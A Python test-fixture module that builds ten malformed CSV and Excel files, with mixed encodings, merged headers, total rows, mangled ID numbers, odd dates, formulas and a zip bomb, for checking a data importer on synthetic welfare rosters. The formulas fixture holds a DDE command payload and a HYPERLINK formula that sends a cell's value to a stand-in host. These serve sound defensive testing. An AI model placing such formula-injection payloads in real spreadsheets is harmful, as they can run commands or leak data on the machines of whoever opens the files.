"""Ten ugly files, each with what must be made of it: which fields, what gets in, which cells are refused and why."""

import csv
import datetime as dt
import io
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl

from exchange.names import check_character
from tests.adapters.files.books import book
from tests.adapters.files.test_xlsx import bomb

ROWS = 200_000
BOMB = 513 << 20
RUNS = "=cmd|'/c calc'!A1"
LINK = '=HYPERLINK("http://invalid.test/?"&A1,"<b>点此</b>")'


def person(number: int) -> str:
    """The id number of a person who does not exist, with its check digit."""
    born = dt.date(1950, 1, 1) + dt.timedelta(days=number % 20_000)
    plain = f"431126{born:%Y%m%d}{number // 20_000:03}"
    return plain + check_character(plain)


@dataclass(frozen=True)
class Ugly:
    """One file: how it is made, and the draft, records and dead letters that come of it.

    `fields` maps each field's name to its type, class and whether it may be null; `letters` are code, row and column of
    each row that does not get in; `notes` are keys that the draft's notes or reasons contain; `error` ends it all.
    """

    name: str
    make: Callable[[Path], object]
    fields: dict[str, tuple[str, str, bool]] = field(default_factory=dict)
    taken: int = 0
    letters: tuple[tuple[str, int, str], ...] = ()
    key: tuple[str, ...] = ()
    subject: str = ""
    notes: frozenset[str] = frozenset()
    error: str = ""


def _text(rows: Sequence[Sequence[object]], **options: Any) -> str:
    stream = io.StringIO()
    csv.writer(stream, **options).writerows(rows)
    return stream.getvalue()


def _gb18030(path: Path) -> None:
    rows = [
        ["户号", "户主姓名", "联系电话", "家庭住址", "是否低保户", "开户行账号"],
        ["4311-001", "王䶮", "13800000001", "湖南省永州市宁远县湾井镇一村1号", "是", "6222020000001234509"],
        ["4311-002", "李𠮷", "0746-7222222", "湖南省永州市宁远县湾井镇二村2号", "否", "6222020000001234517"],
        ["4311-003", "欧阳·娜", "13800000003", "湖南省永州市宁远县湾井镇三村3号", "是", ""],
    ]
    path.write_bytes(_text(rows, delimiter=";").encode("gb18030"))


def _bom(path: Path) -> None:
    text = '统一社会信用代码,单位名称,"注册\n资本（万元）",成立日期,Email\r\n'
    rows = (
        '91430000000000000A,甲公司,"1,000.5",2001-02-03,a@b.test\r\n'
        '91350100M000100Y43,"乙""公司""",20,2001/2/4,c@d.test\r\n'
    )
    path.write_text("\ufeff" + text + rows, "utf-8", newline="")


def _merged(path: Path) -> None:
    rows: list[list[Any]] = [
        ["某县临时救助发放花名册", None, None, None, None, None],
        ["填报单位：民政局", None, None, None, "单位：元", None],
        ["序号", "申请人", None, "发放情况", None, "备注"],
        [None, "姓名", "身份证号码", "金额", "月份", None],
        [1, "张三", person(1), 560, "2026年1月", "A+B"],
        [2, "李四", person(2), 300.5, "2026年2月", None],
    ]
    book(path, rows, merged=["A1:F1", "A3:A4", "B3:C3", "D3:E3", "F3:F4"])


def _totals(path: Path) -> None:
    rows: list[list[Any]] = [
        ["村名", "户数", "补贴金额"],
        ["一村", 3, 120.5],
        ["二村", 4, 80],
        ["小 计", 7, 200.5],
        ["三村", 0, 0],
        ["合计", 7, 200.5],
        [],
        ["制表人：甲", "", "审核：乙"],
    ]
    book(path, rows)


def _numbers(path: Path) -> None:
    rows: list[list[Any]] = [
        ["姓名", "身份证号", "卡号"],
        ["张三", float(person(1)), 6222020000001234509],
        ["李四", int(person(2)), "6222020000001234517"],
        ["王五", person(3), "6222020000001234509"],
        ["赵六", "4.31126E+17", "6222020000001234509"],
    ]
    book(path, rows)


def _dates(path: Path) -> None:
    days = [
        "2026.1.3",
        20260103,
        46025,
        dt.date(2026, 1, 3),
        "二〇二六年一月三日",
        "二〇二六年一月",
        "2026年1月3日",
        "待定",
    ]
    months = ["2026-01", "二〇二六年一月", "2026年1月", "2026.1", "2026/01", "2026-01", "2026-01", "2026-01"]
    book(
        path,
        [("事项", "办理日期", "所属期"), *((f"事{n}", *both) for n, both in enumerate(zip(days, months, strict=True)))],
    )


def _empty_columns(path: Path) -> None:
    rows = [
        ["", "编号", "", "状态", "", "联系人", ""],
        ["", "A-1", "", "正常", "", "张三", ""],
        ["", "A-2", "", "-", "", "", ""],
        ["", "", "", "", "", "", ""],
        ["", "A-3", "", "正常", "", "/", ""],
    ]
    path.write_text(_text(rows), "utf-8")


def many(path: Path, rows: int = ROWS) -> None:
    """Rows of so many persons; the last has no date."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["身份证号", "姓名", "补助金额", "发放日期"])
        for number in range(rows):
            day = "x" if number == rows - 1 else "2026-01-03"
            writer.writerow([person(number), "张三" if number % 2 else "李四", f"{number}.{number % 100:02}", day])


def _formulas(path: Path) -> None:
    rows = [
        ["编号", "名称", "说明"],
        ["A1", RUNS, "+1"],
        ["A2", LINK, "-1+1"],
        ["A3", "@SUM(A1)", "\tx"],
        ["A4", "'=1", "<script>"],
    ]
    book(path, rows)
    made = openpyxl.load_workbook(path)
    page = made.active
    assert page is not None
    page["A6"], page["B6"], page["C6"] = "A5", RUNS, "x"  # a formula now, and never calculated
    made.save(path)


UGLY = (
    Ugly(
        "gb18030.csv",
        _gb18030,
        {
            "household_id": ("id", "L2", False),
            "head_name": ("name", "L2", False),
            "phone": ("id", "L3", False),
            "address": ("text", "L3", False),
            "column_5": ("bool", "L2", False),
            "bank_account": ("id", "L4", True),
        },
        3,
        key=("household_id",),
        subject="household_id",
        notes=frozenset(
            {"draft_form_csv", "draft_by_header_bank_card", "draft_by_values_phone", "draft_subject_record"}
        ),
    ),
    Ugly(
        "bom.csv",
        _bom,
        {
            "credit_code": ("id", "L1", False),
            "organisation": ("text", "L2", False),
            "column_3": ("text", "L2", False),
            "date": ("date", "L2", False),
            "email": ("text", "L3", False),
        },
        2,
        key=("credit_code",),
        subject="credit_code",
        notes=frozenset({"draft_by_header_credit_code", "draft_by_values_email"}),
    ),
    Ugly(
        "merged.xlsx",
        _merged,
        {
            "serial_number": ("int", "L1", False),
            "name": ("name", "L2", False),
            "id_number": ("id", "L3", False),
            "amount_fen": ("fen", "L3", False),
            "month": ("month", "L2", False),
            "remark": ("text", "L2", True),
        },
        2,
        key=("id_number",),
        subject="id_number",
        notes=frozenset({"draft_header_lines", "draft_by_values_id_number", "draft_subject_person"}),
    ),
    Ugly(
        "totals.xlsx",
        _totals,
        {"village": ("text", "L1", False), "count": ("int", "L2", False), "benefit_fen": ("fen", "L3", False)},
        3,
        key=("village",),
        subject="village",
        notes=frozenset({"draft_totals"}),
    ),
    Ugly(
        "numbers.xlsx",
        _numbers,
        {"name": ("name", "L2", False), "id_number": ("id", "L3", False), "bank_account": ("text", "L4", False)},
        1,
        (
            ("cell_id_damaged", 2, "身份证号"),
            ("cell_id_damaged", 3, "身份证号"),
            ("cell_id_damaged", 5, "身份证号"),
        ),
        key=("id_number",),
        subject="id_number",
        notes=frozenset({"draft_failing"}),
    ),
    Ugly(
        "dates.xlsx",
        _dates,
        {"column_1": ("text", "L2", False), "date": ("date", "L2", False), "month": ("month", "L2", False)},
        6,
        (("cell_date_malformed", 7, "办理日期"), ("cell_date_malformed", 9, "办理日期")),
        key=("column_1",),
        subject="column_1",
        notes=frozenset({"draft_months_only", "draft_failing"}),
    ),
    Ugly(
        "empty_columns.csv",
        _empty_columns,
        {"code": ("id", "L2", False), "status": ("text", "L2", True), "name": ("name", "L2", True)},
        3,
        key=("code",),
        subject="code",
        notes=frozenset({"draft_empty_columns"}),
    ),
    Ugly(
        "many.csv",
        many,
        {
            "id_number": ("id", "L3", False),
            "name": ("name", "L2", False),
            "benefit_fen": ("fen", "L3", False),
            "paid_on": ("date", "L2", False),
        },
        ROWS - 1,
        (("cell_date_malformed", ROWS + 1, "发放日期"),),
        key=("id_number",),
        subject="id_number",
    ),
    Ugly(
        "formulas.xlsx",
        _formulas,
        {"code": ("id", "L2", False), "title": ("text", "L2", True), "remark": ("text", "L2", False)},
        4,
        (("cell_formula_uncalculated", 6, "名称"),),
        key=("code",),
        subject="code",
        notes=frozenset({"draft_lost"}),
    ),
    Ugly("bomb.xlsx", lambda path: bomb(path, BOMB), error="file_unpacks_too_large"),
)
QUICK = tuple(one for one in UGLY if one.name not in {"many.csv", "bomb.xlsx"})
